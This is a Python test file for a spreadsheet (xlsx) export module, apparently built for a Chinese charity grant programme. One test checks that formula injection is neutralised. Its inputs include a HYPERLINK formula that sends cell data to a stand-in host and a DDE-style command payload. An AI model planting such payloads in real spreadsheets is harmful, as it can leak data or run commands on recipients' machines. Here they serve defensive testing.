"""xlsx exports, checked by reading the files back with openpyxl."""

from __future__ import annotations

import io
import zipfile
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES
from openpyxl.worksheet.worksheet import Worksheet

from programmes.xlsx_export import (
    MAX_CELL_CHARS,
    TRUNCATED_MARK,
    Cell,
    sheet_title_for,
    write_xlsx,
    write_xlsx_file,
    write_xlsx_file_async,
)

HEADERS = ["机构名称", "统一社会信用代码", "申请金额（元）", "提交时间", "成立日期", "是否入围", "备注"]


def read_sheet(data: bytes | Path) -> Worksheet:
    workbook = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    sheet = workbook.active
    assert isinstance(sheet, Worksheet)
    return sheet


def values(sheet: Worksheet) -> list[tuple[Any, ...]]:
    return list(sheet.iter_rows(values_only=True))


def test_headers_and_typed_values() -> None:
    submitted = datetime(2026, 3, 31, 15, 59, 59, tzinfo=UTC)  # 23:59:59 in Shanghai
    rows: list[list[Cell]] = [
        [
            "上海市浦东新区阳光社工服务社",
            "52310115MJ00000011",
            Decimal("150000.50"),
            submitted,
            date(2018, 5, 4),
            True,
            None,
        ],
        [
            "静安区🌟星耀公益发展中心",
            "52310106MJ0000002X",
            80000,
            submitted.replace(tzinfo=None),
            date(2020, 1, 1),
            False,
            "",
        ],
    ]
    sheet = read_sheet(write_xlsx(HEADERS, rows, "2026年申报汇总"))
    assert sheet.title == "2026年申报汇总"
    assert values(sheet) == [
        tuple(HEADERS),
        ("上海市浦东新区阳光社工服务社", "52310115MJ00000011", 150000.5, datetime(2026, 3, 31, 23, 59, 59),
         datetime(2018, 5, 4), True, None),
        ("静安区🌟星耀公益发展中心", "52310106MJ0000002X", 80000, datetime(2026, 3, 31, 23, 59, 59),
         datetime(2020, 1, 1), False, None),
    ]  # fmt: skip
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["D2"].is_date and sheet["E2"].is_date
    assert (sheet.column_dimensions["A"].width or 0) >= 10


def test_other_zones_are_shown_in_shanghai() -> None:
    tokyo = timezone(timedelta(hours=9))
    sheet = read_sheet(write_xlsx(["时间"], [[datetime(2026, 1, 1, 9, 0, tzinfo=tokyo)]]))
    assert sheet["A2"].value == datetime(2026, 1, 1, 8, 0)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")'),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # XML reads a carriage return back as a line feed
        ("cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
        ("正常文本=1+1", "正常文本=1+1"),
        ("#N/A", "#N/A"),
    ],
)
def test_formula_injection_is_neutralised(text: str, written: str) -> None:
    data = write_xlsx([text], [[text]])
    sheet = read_sheet(data)
    assert sheet["A1"].value == written and sheet["A2"].value == written
    assert sheet["A1"].data_type == "s" and sheet["A2"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_illegal_xml_characters_are_removed() -> None:
    dirty = "第一行\x00\x01\x08\x0b\x0c\x0e\x1f\n第二行\t制表\ud800\ufffe结束"
    sheet = read_sheet(write_xlsx(["说明\x07"], [[dirty]]))
    assert sheet["A1"].value == "说明"
    assert sheet["A2"].value == "第一行\n第二行\t制表结束"


def test_long_text() -> None:
    ten_k = ("公益创新创业大赛申报书正文🌱" * 800)[:10_000]
    too_long = "长" * 40_000
    sheet = read_sheet(write_xlsx(["正文", "超长"], [[ten_k, too_long]]))
    assert sheet["A2"].value == ten_k
    cut = sheet["B2"].value
    assert isinstance(cut, str) and len(cut) == MAX_CELL_CHARS and cut.endswith(TRUNCATED_MARK)


def test_numbers_that_excel_would_mangle() -> None:
    big = 310101199001011234  # an 18-digit number (an ID card number typed as digits) would lose its last digits
    rows: list[list[Cell]] = [
        [10**15 - 1, big, float("nan"), Decimal("NaN"), Decimal("sNaN"), Decimal("1E+2"), 0.1, -5]
    ]
    sheet = read_sheet(write_xlsx(list("ABCDEFGH"), rows))
    assert values(sheet)[1] == (10**15 - 1, "310101199001011234", "nan", "NaN", "sNaN", 100, 0.1, -5)


def test_rows_shorter_than_headers_are_padded_and_longer_refused() -> None:
    sheet = read_sheet(write_xlsx(["甲", "乙", "丙"], [["一"], [], [None, "二"]]))
    assert values(sheet)[1:] == [("一", None, None), (None, None, None), (None, "二", None)]
    with pytest.raises(ValueError, match="row 1 has 2 cells for 1 columns"):
        write_xlsx(["甲"], [["一", "二"]])
    with pytest.raises(ValueError):
        write_xlsx([], [])


def test_unsupported_cell_type_is_refused() -> None:
    with pytest.raises(TypeError, match="dict"):
        write_xlsx(["答案"], [[{"a": 1}]])  # type: ignore[list-item]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("申报[2026]/汇总:第一批?*", "申报_2026__汇总_第一批__"),
        ("", "导出"),
        ("'''", "导出"),
        ("'引号'", "引号"),
        ("很长的工作表名称" * 5, ("很长的工作表名称" * 5)[:31]),
    ],
)
def test_sheet_titles(title: str, expected: str) -> None:
    assert sheet_title_for(title) == expected
    assert read_sheet(write_xlsx(["列"], [], title)).title == expected


@pytest.mark.parametrize(
    ("count", "reports"), [(0, [0]), (999, [999]), (2000, [1000, 2000]), (2500, [1000, 2000, 2500])]
)
def test_progress_is_reported_every_n_rows_and_at_the_end(count: int, reports: list[int]) -> None:
    seen: list[int] = []
    write_xlsx(["序号"], ([i] for i in range(count)), on_progress=seen.append, progress_every=1000)
    assert seen == reports


def test_file_export_is_atomic(tmp_path: Path) -> None:
    target = tmp_path / "申报汇总.xlsx"
    assert write_xlsx_file(target, ["序号"], ([i] for i in range(10))) == 10
    assert values(read_sheet(target))[-1] == (9,)

    def failing() -> Iterator[list[Cell]]:
        yield [1]
        raise RuntimeError("database went away")

    openpyxl_temp_files = len(ALL_TEMP_FILES)
    with pytest.raises(RuntimeError):
        write_xlsx_file(target, ["序号"], failing())
    with pytest.raises(RuntimeError):
        write_xlsx(["序号"], failing())
    assert values(read_sheet(target))[-1] == (9,)  # the previous complete file is untouched
    assert [p.name for p in tmp_path.iterdir()] == ["申报汇总.xlsx"]
    assert len(ALL_TEMP_FILES) == openpyxl_temp_files  # openpyxl's own spool files are gone too


async def test_async_export_failure_leaves_nothing(tmp_path: Path) -> None:
    async def failing() -> AsyncIterator[list[Cell]]:
        for i in range(1500):
            yield [i]
        raise ConnectionError("database went away")

    openpyxl_temp_files = len(ALL_TEMP_FILES)
    with pytest.raises(ConnectionError):
        await write_xlsx_file_async(tmp_path / "export.xlsx", ["序号"], failing())
    assert listing(tmp_path) == [] and len(ALL_TEMP_FILES) == openpyxl_temp_files


def listing(directory: Path) -> list[Path]:
    return list(directory.iterdir())


async def test_async_export_for_a_job(tmp_path: Path) -> None:
    async def pages() -> AsyncIterator[list[Cell]]:
        for i in range(2_345):
            yield [i, f"机构{i}", Decimal(i) / 100]

    seen: list[int] = []

    async def report(done: int) -> None:
        seen.append(done)

    target = tmp_path / "export.xlsx"
    count = await write_xlsx_file_async(target, ["序号", "名称", "金额"], pages(), "导出", on_progress=report)
    assert count == 2_345 and seen == [1000, 2000, 2345]
    rows = values(read_sheet(target))
    assert len(rows) == 2_346 and rows[-1] == (2344, "机构2344", 23.44)

    plain: list[int] = []
    empty = tmp_path / "empty.xlsx"
    assert await write_xlsx_file_async(empty, ["序号"], [], on_progress=plain.append) == 0
    assert plain == [0] and values(read_sheet(empty)) == [("序号",)]


def _resident_bytes() -> int:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * 4096


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="needs /proc to read resident memory")
def test_fifty_thousand_rows_in_flat_memory(tmp_path: Path) -> None:
    samples: list[int] = []

    def rows() -> Iterator[list[Cell]]:
        for i in range(50_000):
            yield [i, f"第{i}号 社会组织🌟"]

    target = tmp_path / "big.xlsx"
    count = write_xlsx_file(
        target, ["序号", "机构名称"], rows(), on_progress=lambda _: samples.append(_resident_bytes()),
        progress_every=5_000,
    )  # fmt: skip
    assert count == 50_000 and len(samples) == 10
    growth = max(samples) - samples[0]
    assert growth < 20 * 1024 * 1024, f"memory grew by {growth / 1e6:.1f} MB while writing"
    with zipfile.ZipFile(target) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b'<row r="50001"' in sheet_xml and b'<row r="50002"' not in sheet_xml
    assert "第49999号 社会组织🌟".encode() in sheet_xml
